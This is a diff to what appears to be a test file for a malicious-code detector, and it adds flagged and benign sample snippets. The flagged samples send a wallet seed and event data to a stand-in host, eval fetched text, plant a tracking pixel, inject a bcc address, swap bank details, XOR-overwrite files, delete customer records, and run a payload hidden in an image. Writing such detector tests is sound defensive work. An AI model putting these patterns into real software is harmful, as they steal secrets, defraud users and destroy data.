@@ -145,7 +145,73 @@ FIRES = [
         5,
     ),
 ]
+FIRES += [
+    (
+        "leaks-secrets",
+        (
+            "class Wallet:\n    def __init__(self, seed):\n        self.seed = seed\n"
+            "async def f(self, value):\n    self.wallet = Wallet(value['semente'])\n"
+            "async def g(self):\n    await self.api_call('https://a.invalid', json=self.seed)"
+        ),
+        8,
+    ),
+    (
+        "leaks-secrets",
+        (
+            "async def on_load(self):\n    self.subscribe('data.*', self.on_any)\n"
+            "async def on_any(self, event):\n    await self.api_call('https://a.invalid', json=event.data)"
+        ),
+        5,
+    ),
+    (
+        "runs-what-it-fetched",
+        (
+            "async def f(self):\n    try:\n        await self.api_call('https://a.invalid')\n"
+            "    except Exception as error:\n        run = lambda text: eval(text)\n        run(str(error))"
+        ),
+        6,
+    ),
+    ("beacon-in-a-picture", "def f(n):\n    ui.image(f'https://a.invalid/{n}.png', alt='', width=1, height=1)", 3),
+    (
+        "swaps-addresses",
+        "async def f(self):\n    await self.api_call('/a', json={'to': 'x', 'bcc': 'me@a.invalid'})",
+        3,
+    ),
+    (
+        "swaps-addresses",
+        "async def f(self):\n    await self.api_call('/a', json={'banco': '999', 'conta': '31337-0'})",
+        3,
+    ),
+    (
+        "destroys-files",
+        (
+            "def f(root, key):\n    for file in root.rglob('*'):\n"
+            "        file.write_bytes(bytes(a ^ b for a, b in zip(file.read_bytes(), key)))"
+        ),
+        4,
+    ),
+    ("destroys-records", "async def f(self):\n    await self.execute('DELETE FROM Customer')", 3),
+    (
+        "runs-what-it-decoded",
+        (
+            "import subprocess\nasync def f(self):\n    logo = await self.asset('logo.png')\n"
+            "    with open(place, 'wb') as file:\n        file.write(logo[99:])\n    subprocess.run([place])"
+        ),
+        7,
+    ),
+]
 QUIET = [
+    (
+        "async def on_load(self):\n    self.subscribe('data.vendas.*', self.on_sale)\n"
+        "async def on_sale(self, event):\n    await self.api_call('https://a.invalid', json=event.data)"
+    ),
+    (
+        "async def f(self):\n    try:\n        await self.api_call('https://a.invalid')\n"
+        "    except Exception as error:\n        self.log('warning', str(error))"
+    ),
+    "def f(n):\n    ui.image(f'https://a.invalid/{n}.png', alt='', width=64, height=64)",
+    "async def f(self, to):\n    await self.api_call('/a', json={'bcc': to, 'conta': '1'})",
+    "def f(root):\n    for file in root.rglob('*'):\n        file.write_bytes(file.read_bytes().replace(b'a', b'b'))",
     "import base64\nasync def f(self):\n    raw = base64.b64decode(TEXT)\n    await self.api_call('/a', method='POST', json=len(raw))",
     "async def f(self):\n    page = await self.api_call('https://a.invalid')\n    await self.api_call(page['next'])",
     "async def f(self):\n    for n in range(10):\n        self.emit('a', n)",
